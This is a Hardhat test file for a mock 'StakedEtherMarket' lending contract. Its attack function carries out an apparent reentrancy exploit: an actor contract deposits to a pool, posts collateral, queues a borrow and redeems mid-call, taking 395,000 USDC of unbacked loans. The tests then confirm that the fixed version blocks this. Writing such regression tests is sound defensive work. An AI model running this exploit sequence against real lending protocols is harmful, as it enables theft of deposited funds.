import { expect } from "chai";
import { network } from "hardhat";
import { encodeFunctionData, erc20Abi, parseEther, parseUnits } from "viem";

const usd = (amount: string) => parseUnits(amount, 6);

async function attack(name: "StakedEtherMarket" | "StakedEtherMarketFixed") {
  const { viem } = await network.create();
  const [, alice] = await viem.getWalletClients();
  const usdc = await viem.deployContract("StakedEtherMarketUsdc");
  const weth = await viem.deployContract("StakedEtherMarketWeth");
  const pool = await viem.deployContract("StakedEtherMarketPool", [weth.address]);
  const feed = await viem.deployContract("StakedEtherMarketFeed", [3_000n * 10n ** 8n]);
  const market = await viem.deployContract(name as "StakedEtherMarket", [usdc.address, pool.address, feed.address]);
  const checks = await viem.deployContract("StakedEtherMarketChecks", [market.address]);
  await usdc.write.transfer([alice.account.address, usd("4000000")]);
  await usdc.write.approve([market.address, usd("4000000")], { account: alice.account });
  await market.write.supply([usd("4000000")], { account: alice.account });
  await weth.write.deposit({ account: alice.account, value: parseEther("900") });
  await weth.write.approve([pool.address, parseEther("900")], { account: alice.account });
  await pool.write.deposit([parseEther("900")], { account: alice.account });
  expect(await checks.read.invariant_everyLoanIsBacked()).to.equal(true);

  const thief = await viem.deployContract("StakedEtherMarketActor");
  await weth.write.deposit({ value: parseEther("1000") });
  await weth.write.transfer([thief.address, parseEther("1000")]);
  const approve = (spender: `0x${string}`) =>
    encodeFunctionData({ abi: erc20Abi, functionName: "approve", args: [spender, parseEther("1000")] });
  const onPool = (functionName: "deposit" | "redeem", amount: bigint) =>
    encodeFunctionData({ abi: pool.abi, functionName, args: [amount] } as never);
  const onMarket = (functionName: "addCollateral" | "borrow", amount: bigint) =>
    encodeFunctionData({ abi: market.abi, functionName, args: [amount] } as never);
  await thief.write.exec([weth.address, 0n, approve(pool.address)]);
  await thief.write.exec([pool.address, 0n, approve(market.address)]);
  await thief.write.exec([pool.address, 0n, onPool("deposit", parseEther("1000"))]);
  await thief.write.exec([market.address, 0n, onMarket("addCollateral", parseEther("100"))]);
  await thief.write.queue([market.address, onMarket("borrow", usd("395000"))]);
  await thief.write.exec([pool.address, 0n, onPool("redeem", parseEther("900"))], { gas: 5_000_000n });
  return {
    holds: await checks.read.invariant_everyLoanIsBacked(),
    borrowed: await usdc.read.balanceOf([thief.address]),
  };
}

describe("StakedEtherMarket", () => {
  it("is broken by hand", async () => {
    expect(await attack("StakedEtherMarket")).to.deep.equal({ holds: false, borrowed: usd("395000") });
  });

  it("holds when fixed", async () => {
    expect(await attack("StakedEtherMarketFixed")).to.deep.equal({ holds: true, borrowed: 0n });
  });
});
